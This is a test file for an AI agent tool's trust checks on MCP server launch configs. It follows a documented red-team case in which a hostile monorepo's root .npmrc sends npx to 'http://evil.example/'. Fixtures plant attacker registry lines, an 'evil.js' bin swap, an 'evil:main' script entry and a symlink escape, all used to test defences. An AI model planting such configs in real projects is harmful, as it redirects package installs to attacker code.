/**
 * Red team 17: a launcher started in a project's folder reads the folders above it too. npm's
 * project is the nearest folder above with a `package.json` (checked with npm 11: in a monorepo's
 * `packages/x` with no `package.json` of its own, `npm config get registry` printed the root
 * `.npmrc`'s `http://evil.example/`), and `npx` runs that project's `node_modules` copy; yarn reads
 * every `.yarnrc.yml` up the tree (its `yarnPath` is the program it runs), uv and poetry the nearest
 * `pyproject.toml`. A hostile monorepo's `packages/x/.mcp.json` naming `npx -y docs-mcp`, with a
 * root `.npmrc` saying `registry=`, was summarised as fetching "from its registry", and nothing
 * above the folder was bound: the root's files could be added or changed after trust. Now those
 * names are bound in every folder above, up to (not into) the home folder, and the summary names
 * those present. Failed before: none of `../../.npmrc`, `../../node_modules/docs-mcp`,
 * `../../.yarn/releases/…`, `../pyproject.toml` was bound.
 * Also (item 4): a file trust bound that is deleted, or replaced by a link out of the project with
 * the same content, makes the `.mcp.json` untrusted again (the second failed before: the link was
 * followed and its content hashed the same).
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import * as Effect from "effect/Effect"
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import * as McpFiles from "../../src/layers/mcp/McpFiles.js"
import * as McpSettings from "../../src/layers/mcp/McpSettings.js"

const root = realpathSync(mkdtempSync(join(tmpdir(), "effect-agent-mcp-above-")))
afterAll(() => rmSync(root, { recursive: true, force: true }))
let count = 0

/** A monorepo with `files` at its root and a package `packages/x` holding `.mcp.json`; the package's folder. */
const monorepo = (servers: object, files: Record<string, string>) => {
  const repo = join(root, `repo${++count}`)
  const cwd = join(repo, "packages", "x")
  mkdirSync(cwd, { recursive: true })
  writeFileSync(join(cwd, ".mcp.json"), JSON.stringify({ mcpServers: servers }))
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(repo, path, ".."), { recursive: true })
    writeFileSync(join(repo, path), text)
  }
  return { repo, cwd }
}

const inspect = async (cwd: string) =>
  (await Effect.runPromise(McpSettings.inspect(cwd, join(root, "config")).pipe(Effect.provide(NodeContext.layer))))!
const stillTrusted = async (cwd: string, trusted: { path: string; sha256: string }) =>
  (await Effect.runPromise(McpSettings.readProject(cwd, [{ ...trusted, trustedAt: "" }]).pipe(Effect.provide(NodeContext.layer))))!.trust
const present = (project: McpSettings.Project) => project.files.filter((f) => f.state !== "absent").map((f) => f.path)

describe("what a launcher reads from the folders above the project's", () => {
  it("npx: the monorepo root's .npmrc is bound and named; changed, or made where none was, it is untrusted again", async () => {
    const { repo, cwd } = monorepo({ docs: { command: "npx", args: ["-y", "docs-mcp"] } }, { "package.json": "{}", ".npmrc": "registry=http://evil.example/\n" })
    const project = await inspect(cwd)
    expect(present(project)).toContain("../../.npmrc")
    expect(McpSettings.summary(project).join("\n")).toMatch(/docs: npx also reads the project's \.\.\/\.\.\/\.npmrc, which may choose its registry/)
    expect(await stillTrusted(cwd, project)).toBe("trusted")
    writeFileSync(join(repo, ".npmrc"), "registry=http://other.example/\n")
    expect(await stillTrusted(cwd, project)).toBe("changed")
    const bare = monorepo({ docs: { command: "npx", args: ["-y", "docs-mcp"] } }, {})
    const trusted = await inspect(bare.cwd)
    writeFileSync(join(bare.repo, "packages", ".npmrc"), "registry=http://evil.example/\n")
    expect(await stillTrusted(bare.cwd, trusted)).toBe("changed")
  })

  it("npx: a node_modules copy in a folder above is what runs: named and bound", async () => {
    const { repo, cwd } = monorepo({ docs: { command: "npx", args: ["-y", "docs-mcp"] } }, {
      "package.json": "{}",
      "node_modules/docs-mcp/package.json": JSON.stringify({ name: "docs-mcp", bin: { "docs-mcp": "cli.js" } }),
      "node_modules/docs-mcp/cli.js": "console.log('the clone runs')\n"
    })
    const project = await inspect(cwd)
    expect(McpSettings.summary(project).join("\n")).toMatch(/the project has its own \.\.\/\.\.\/node_modules\/docs-mcp, which npx runs instead of fetching/)
    writeFileSync(join(repo, "node_modules", "docs-mcp", "package.json"), JSON.stringify({ name: "docs-mcp", bin: { "docs-mcp": "evil.js" } }))
    expect(await stillTrusted(cwd, project)).toBe("changed")
  })

  it("yarn: a root .yarnrc.yml and the yarnPath it names, from its own folder, are bound", async () => {
    const { repo, cwd } = monorepo({ y: { command: "yarn", args: ["dlx", "docs-mcp@1.0.0"] } }, {
      ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.0.0.cjs\n",
      ".yarn/releases/yarn-4.0.0.cjs": "// yarn\n"
    })
    const project = await inspect(cwd)
    expect(present(project)).toEqual(expect.arrayContaining(["../../.yarnrc.yml", "../../.yarn/releases/yarn-4.0.0.cjs"]))
    writeFileSync(join(repo, ".yarn", "releases", "yarn-4.0.0.cjs"), "// changed after trust\n")
    expect(await stillTrusted(cwd, project)).toBe("changed")
  })

  it("uv run: the pyproject.toml of the folder above is bound", async () => {
    const { repo, cwd } = monorepo({ u: { command: "uv", args: ["run", "docs-mcp"] } }, { "packages/pyproject.toml": "[project]\nname = \"x\"\n" })
    const project = await inspect(cwd)
    expect(present(project)).toContain("../pyproject.toml")
    writeFileSync(join(repo, "packages", "pyproject.toml"), "[project]\nname = \"x\"\n[project.scripts]\ndocs-mcp = \"evil:main\"\n")
    expect(await stillTrusted(cwd, project)).toBe("changed")
  })

  it("make reads its Makefile from its own folder only; a plain program binds nothing above", async () => {
    const { cwd } = monorepo({ m: { command: "make", args: ["mcp"] }, n: { command: "node", args: ["server.js"] } }, { "Makefile": "mcp:\n\techo\n", ".npmrc": "x=1\n" })
    expect((await inspect(cwd)).files.map((f) => f.path).filter((path) => path.startsWith("../"))).toEqual([])
  })

  it("the folders read stop below the home folder: your own ~/.npmrc is yours", () => {
    expect(McpFiles.foldersAbove("/home/u/work/repo/packages/x", "/home/u")).toEqual(["/home/u/work/repo/packages", "/home/u/work/repo", "/home/u/work"])
    expect(McpFiles.foldersAbove("/srv/repo/x", "/home/u")).toEqual(["/srv/repo", "/srv"])
    expect(McpFiles.foldersAbove("/home/u", "/home/u")).toEqual([])
    expect(McpFiles.foldersAbove("/home/u/repo", "/home/u")).toEqual([])
  })
})

describe("a bound file deleted or replaced after trust (item 4)", () => {
  const project = () => {
    const cwd = join(root, `plain${++count}`)
    mkdirSync(join(cwd, "tools"), { recursive: true })
    writeFileSync(join(cwd, ".mcp.json"), JSON.stringify({ mcpServers: { s: { command: "node", args: ["tools/mcp.js"] } } }))
    writeFileSync(join(cwd, "tools", "mcp.js"), "console.log('server')\n")
    return cwd
  }
  it("deleted: untrusted again", async () => {
    const cwd = project()
    const trusted = await inspect(cwd)
    unlinkSync(join(cwd, "tools", "mcp.js"))
    expect(await stillTrusted(cwd, trusted)).toBe("changed")
  })
  it("replaced by a link out of the project, to a file with the same content: untrusted again", async () => {
    const cwd = project()
    const trusted = await inspect(cwd)
    const outside = join(root, `outside${count}.js`)
    writeFileSync(outside, "console.log('server')\n")
    unlinkSync(join(cwd, "tools", "mcp.js"))
    symlinkSync(outside, join(cwd, "tools", "mcp.js"))
    expect(await stillTrusted(cwd, trusted)).toBe("changed")
  })
  it("a link inside the project, as trusted, stays trusted", async () => {
    const cwd = project()
    writeFileSync(join(cwd, "tools", "real.js"), "console.log('server')\n")
    unlinkSync(join(cwd, "tools", "mcp.js"))
    symlinkSync("real.js", join(cwd, "tools", "mcp.js"))
    const trusted = await inspect(cwd)
    expect(await stillTrusted(cwd, trusted)).toBe("trusted")
  })
})
